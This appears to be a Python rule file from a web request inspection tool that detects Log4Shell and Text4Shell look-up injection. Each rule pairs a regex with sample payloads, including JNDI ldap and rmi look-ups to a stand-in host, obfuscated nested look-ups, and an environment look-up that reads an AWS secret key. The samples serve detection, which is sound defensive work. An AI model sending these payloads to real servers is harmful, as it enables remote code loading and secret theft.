r"""Log4Shell (CVE-2021-44228).

A look-up in a log line, however it is nested: look-ups that give single letters hide the one that matters.
Must never hold a row of somebody else's collection; every example was written for its rule.
"""

from __future__ import annotations

from typing import Final

from asgi_guard.inspection.rule import VALUES, Rule

_PLACES: Final = (*VALUES, "user_agent", "xml")
_LOOKUP: Final = (
    r"(?:lower|upper|env|sys|java|date|ctx|main|base64|sd|k8s|docker|web|log4j|bundle|map|marker|event"
    r"|spring|script|dns|url|const|urldecoder|urlencoder|sm|xml|properties)"
)

RULES: Final[tuple[Rule, ...]] = (
    Rule(
        id="AG-LOG4SHELL-001",
        attack="log4shell",
        score=5,
        level=1,
        pattern=r"\$\{\s{0,8}jndi\s{0,8}:|\bjndi:(?:ldaps?|rmi|dns|iiop|nis|nds|corba|https?):/?/?\S",
        needs=("jndi",),
        why="The look-up that loads a class from a server of the attacker's.",
        positives=("${jndi:ldap://x.example/a}", "$%7Bjndi:dns://x.example%7D", "{jndi:rmi://x.example"),
        negatives=("what is jndi: an interface", "jndi lookups"),
        places=_PLACES,
    ),
    Rule(
        id="AG-LOG4SHELL-002",
        attack="log4shell",
        score=5,
        level=1,
        pattern=r"\$\{[a-z0-9\s]{0,16}\$\{\s{0,4}(?:[a-z0-9_.-]{0,16}:|:|\$\{)"
        r"|\$\{(?:[^{}\n]{0,32}:)?:?-\s{0,2}(?:j|n|d|i|jn|jnd|jndi|nd|ndi|di|:|l|ld|ldap|r|rmi|\$)\}",
        needs=("${",),
        why="The name of the look-up is put together out of others.",
        positives=(
            "${${lower:j}ndi:${lower:l}dap://x.example}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}",
            "${j${k8s:k5:-ND}i:ldap://x.example}",
            "${${env:A:-j}ndi:x}",
        ),
        negatives=("${a} ${b:c}", "${self:custom.${opt:stage}}", "${name:-default}", "`${a ? `${b}` : c}`"),
        places=_PLACES,
    ),
    Rule(
        id="AG-LOG4SHELL-003",
        attack="log4shell",
        score=5,
        level=1,
        pattern=r"\$\{(?:lower|upper|::-\w|date:'\w{1,4}'|base64|script|dns|urldecoder|const)(?::|\})",
        needs=("${lower", "${upper", "${::-", "${date", "${base64", "${script", "${dns", "${urldecoder", "${const"),
        why="Look-ups that exist to disguise, or to run a script (CVE-2022-42889).",
        positives=("${lower:a}", "${::-x}", "${script:javascript:1}", "${base64:aWQ=}", "${upper:ldap}"),
        negatives=("${lowercase}", "${date}", "${shop}"),
        places=_PLACES,
    ),
    Rule(
        id="AG-LOG4SHELL-004",
        attack="log4shell",
        score=5,
        level=2,
        pattern=r"^\S{0,60}\$\{" + _LOOKUP + r":[^}\s]{1,60}\}\S{0,60}$",
        needs=("${",),
        why="A look-up by itself tells the attacker what he wants to know of the server.",
        positives=("${env:AWS_SECRET_ACCESS_KEY}", "${sys:java.version}", "${java:os}"),
        negatives=("${user:name}", "the ${env:HOME} variable", "${env}", "${map}"),
        places=_PLACES,
    ),
)
